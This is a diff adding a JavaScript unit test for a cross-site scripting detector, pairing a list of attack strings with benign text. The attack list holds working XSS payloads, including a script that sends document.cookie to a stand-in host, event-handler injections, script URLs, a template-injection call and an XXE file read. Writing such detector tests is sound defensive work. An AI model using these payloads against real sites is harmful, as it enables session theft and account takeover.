@@ -1,0 +1,34 @@
+// Cross-site scripting detector: markup, handlers and script URLs, against
+// ordinary text that contains angle brackets, links and dots.
+import { detectXss } from '../../../src/detection/detectors/xss.js';
+import { testDetector } from './cases.js';
+
+testDetector('xss', detectXss, {
+  attacks: [
+    '<script>fetch("//x.test/"+document.cookie)</script>',
+    '<svg/onload=print()>',
+    '<img src=x onerror=alert(9)>',
+    '"><iframe srcdoc="&lt;b&gt;">',
+    "' onfocus='top.alert(1)' autofocus='",
+    'javascript:void(open())',
+    'java\tscript:run()',
+    '<a href="vbscript:msgbox(1)">',
+    '<div style="width: expression(alert(1))">',
+    '<f o r m action=//x.test>',
+    'self["alert"](1)',
+    'document /*x*/ . cookie',
+    '{{constructor.constructor("run()")()}}',
+    '(![]+[])[+!+[]]',
+    '<!ENTITY ext SYSTEM "file:///etc/hostname">',
+  ],
+  benign: [
+    'a < b and c > d',
+    'See https://example.com/docs?page=2',
+    'Use <b>bold</b> sparingly',
+    '<p>Hello</p>',
+    'version 1.2.3 released',
+    'on sale = 20% off',
+    'Mr. Smith went to Washington.',
+    'x = [1, 2, 3]',
+  ],
+});
